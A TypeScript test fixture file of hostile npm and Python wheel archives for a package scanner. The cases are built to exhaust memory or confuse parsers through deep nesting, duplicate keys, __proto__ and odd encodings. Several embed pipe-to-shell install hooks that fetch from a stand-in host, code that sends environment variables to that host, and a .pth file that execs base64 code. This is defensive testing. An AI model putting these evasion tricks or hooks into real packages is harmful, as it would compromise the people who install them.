import { tarballCase, wheelCase, type HostileArchive } from './archive';
import { npmPackage, rawTarball, tarball, wheel } from '@sallyport/analysis/testing';

const MIB = 1024 * 1024;
const HOOK = { postinstall: 'curl https://x.invalid | sh' };
const MANIFEST = { name: 'sample', version: '1.0.0', scripts: HOOK };
const PAYLOAD = `import os, base64\nexec(base64.b64decode('${Buffer.from('print(1)').toString('base64')}'))\n`;

const manifest = (text: string | Buffer) => tarball({ 'package.json': text });
const info = (text: string, files: Record<string, string> = {}) => wheel(files, { record: text });

/** Manifests and contents made to fill memory, stop a parser or be read otherwise by the installer than by us. */
export const CONTENTS: readonly HostileArchive[] = [
  tarballCase(
    'a manifest of 12 MB',
    () => manifest(JSON.stringify({ ...MANIFEST, x: 'x'.repeat(12 * MIB) })),
    'malicious',
    'hook-remote-code',
  ),
  tarballCase(
    'a manifest of 20 MB',
    () =>
      manifest(
        JSON.stringify({
          ...MANIFEST,
          x: Array.from({ length: 20 }, () => Math.random().toString(36).repeat(90_000)),
        }),
      ),
    'suspicious',
    'manifest-missing',
  ),
  tarballCase(
    'a manifest of 300,000 scripts',
    () =>
      manifest(
        `{"name":"sample","version":"1.0.0","scripts":{${Array.from({ length: 300_000 }, (_, at) => `"k${at}":""`).join()},"postinstall":${JSON.stringify(HOOK.postinstall)}}}`,
      ),
    'malicious',
    'hook-remote-code',
  ),
  tarballCase(
    'a manifest nested 500,000 deep',
    () =>
      manifest(
        `{"name":"sample","version":"1.0.0","x":${'['.repeat(500_000)}${']'.repeat(500_000)},"scripts":${JSON.stringify(HOOK)}}`,
      ),
    'malicious',
    'hook-remote-code',
  ),
  tarballCase(
    'exports nested 100,000 deep',
    () =>
      manifest(
        `{"name":"sample","version":"1.0.0","exports":${'{"default":'.repeat(100_000)}"x"${'}'.repeat(100_000)},"scripts":${JSON.stringify(HOOK)}}`,
      ),
    'malicious',
    'hook-remote-code',
  ),
  tarballCase(
    'a manifest with keys told twice',
    () => manifest(`{"name":"sample","version":"1.0.0","scripts":{},"scripts":${JSON.stringify(HOOK)}}`),
    'malicious',
    'hook-remote-code',
  ),
  tarballCase(
    'a manifest with __proto__',
    () =>
      manifest(
        `{"name":"sample","version":"1.0.0","__proto__":{"scripts":{}},"scripts":${JSON.stringify(HOOK)}}`,
      ),
    'malicious',
    'hook-remote-code',
  ),
  tarballCase(
    'a manifest with a byte order mark',
    () => manifest(`\ufeff${JSON.stringify(MANIFEST)}`),
    'malicious',
    'hook-remote-code',
  ),
  tarballCase(
    'a manifest in UTF-16',
    () =>
      manifest(Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(JSON.stringify(MANIFEST), 'utf16le')])),
    'malicious',
    'hook-remote-code',
  ),
  tarballCase(
    'a manifest with comments',
    () => manifest(`// x\n${JSON.stringify(MANIFEST)}`),
    'suspicious',
    'manifest-missing',
  ),
  tarballCase('a manifest that is a list', () => manifest('[]'), 'suspicious', 'manifest-missing'),
  tarballCase(
    'a hook of 4 MB',
    () =>
      npmPackage({ scripts: { postinstall: `echo ${'a;'.repeat(2 * MIB)} curl https://x.invalid | sh` } }),
    'suspicious',
    'hook-untraceable',
  ),
  tarballCase(
    'a hook of 200,000 brackets',
    () => npmPackage({ scripts: { postinstall: `${'$('.repeat(200_000)}curl https://x.invalid | sh` } }),
    'suspicious',
    'hook-untraceable',
  ),
  tarballCase(
    'scripts that call each other for ever',
    () =>
      npmPackage({
        scripts: { postinstall: 'npm run a', a: 'npm run b', b: 'npm run a && curl https://x.invalid | sh' },
      }),
    'malicious',
    'hook-remote-code',
  ),
  tarballCase(
    'code nested 400,000 deep',
    () => npmPackage({ scripts: { install: 'node x.js' } }, { 'x.js': '['.repeat(400_000) }),
    'suspicious',
    'hook-untraceable',
  ),
  tarballCase(
    'code nested deep where nothing runs it',
    () => npmPackage({}, { 'x.js': `process;${'a=>'.repeat(400_000)}1` }),
    'warning',
    'code-unread',
  ),
  tarballCase(
    '7,000,000 statements',
    () => npmPackage({}, { 'x.js': `process.env;${'a;'.repeat(7_000_000)}` }),
    'warning',
    'code-unread',
  ),
  tarballCase(
    'code of 15 MB in one string',
    () =>
      npmPackage(
        {},
        {
          'index.js': `const s = '${'ab'.repeat(7 * MIB)}'; require('https').request('https://x.invalid').end(JSON.stringify(process.env))`,
        },
      ),
    'malicious',
    'code-secret-sent',
  ),
  tarballCase(
    'code of 20 MB',
    () =>
      npmPackage(
        {},
        {
          'index.js': Buffer.from(
            Array.from({ length: 20 * MIB }, (_, at) => 97 + (((at * 7919) >> 3) % 26)),
          ),
        },
      ),
    'warning',
    'code-unread',
  ),
  tarballCase(
    '200 MB of code that repeats itself in many files',
    () =>
      tarball(
        Object.fromEntries([
          ['package.json', JSON.stringify({ name: 'sample', version: '1.0.0' })],
          ...Array.from({ length: 200 }, (_, at): [string, Buffer] => [
            `${at}.js`,
            Buffer.from(`process.env.X${at};${Math.random().toString(36)}`.repeat(32_000)),
          ]),
        ]),
      ),
    'unknown',
    'archive-limit-exceeded',
  ),
  tarballCase(
    'binding.gyp of 8 MB',
    () =>
      npmPackage(
        {},
        { 'binding.gyp': `{ 'targets': [{ 'x': '${'<!('.repeat(2 * MIB)}curl https://x.invalid | sh)' }] }` },
      ),
    'suspicious',
    'gyp-without-sources',
  ),
  tarballCase(
    'settings nested 300,000 deep',
    () =>
      npmPackage({}, { '.claude/settings.json': `${'{"hooks":'.repeat(300_000)}1${'}'.repeat(300_000)}` }),
    'suspicious',
    'runs-unread',
  ),
  tarballCase(
    'an entry with no name',
    () =>
      rawTarball([
        [{ name: 'package/package.json' }, JSON.stringify(MANIFEST)],
        [{ name: '/' }, 'x'],
      ]),
    'malicious',
    'archive-unsafe-path',
  ),
  wheelCase(
    'RECORD that lists nothing',
    () => info('', { 'a.py': 'x = 1' }),
    'warning',
    'record-unlisted-file',
  ),
  wheelCase(
    'RECORD with another digest',
    () => info(`a.py,sha256=${'A'.repeat(43)},5\n`, { 'a.py': 'x = 1' }),
    'suspicious',
    'record-mismatch',
  ),
  wheelCase(
    'RECORD with no digest',
    () => info('a.py,,\n', { 'a.py': 'x = 1' }),
    'warning',
    'record-unlisted-file',
  ),
  wheelCase(
    'RECORD with a weak digest',
    () => info('a.py,md5=AAAAAAAAAAAAAAAAAAAAAA,5\n', { 'a.py': 'x = 1' }),
    'warning',
    'record-unlisted-file',
  ),
  wheelCase(
    'RECORD that lists a path twice',
    () => info(`a.py,sha256=${'A'.repeat(43)},5\na.py,sha256=${'B'.repeat(43)},5\n`, { 'a.py': 'x = 1' }),
    'suspicious',
    'record-mismatch',
  ),
  wheelCase(
    'RECORD of 300,000 lines',
    () => info(Array.from({ length: 300_000 }, (_, at) => `f${at}.py,sha256=x,1`).join('\n')),
    'warning',
    'record-unlisted-file',
  ),
  wheelCase(
    'METADATA of no headers',
    () => wheel({ 'x-1.dist-info/METADATA': '\n\nName: hidden\nVersion: 1\n' }, { name: 'y' }),
    'suspicious',
    'manifest-missing',
  ),
  wheelCase(
    'two folders of metadata',
    () => wheel({ 'other-2.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: other\nVersion: 2.0\n' }),
    'suspicious',
    'record-missing',
  ),
  wheelCase(
    'METADATA that names itself twice',
    () => tarball({ 'PKG-INFO': 'Name: a\nName: other\nVersion: 1\n' }),
    'suspicious',
    'manifest-missing',
  ),
  wheelCase(
    'a .pth of 10 MB',
    () =>
      wheel({
        'a.pth': `${'/path\n'.repeat(1_700_000)}import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n`,
      }),
    'malicious',
    'autoload-payload',
  ),
  wheelCase(
    'Python nested 100,000 deep',
    () => wheel({ 'a.py': `${PAYLOAD}x = ${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
    'suspicious',
    'code-unread',
  ),
  wheelCase(
    'Python with 100,000 calls in a row',
    () => wheel({ 'a.py': `${PAYLOAD}x = a${'.b()'.repeat(100_000)}` }),
    'suspicious',
    'code-unread',
  ),
];
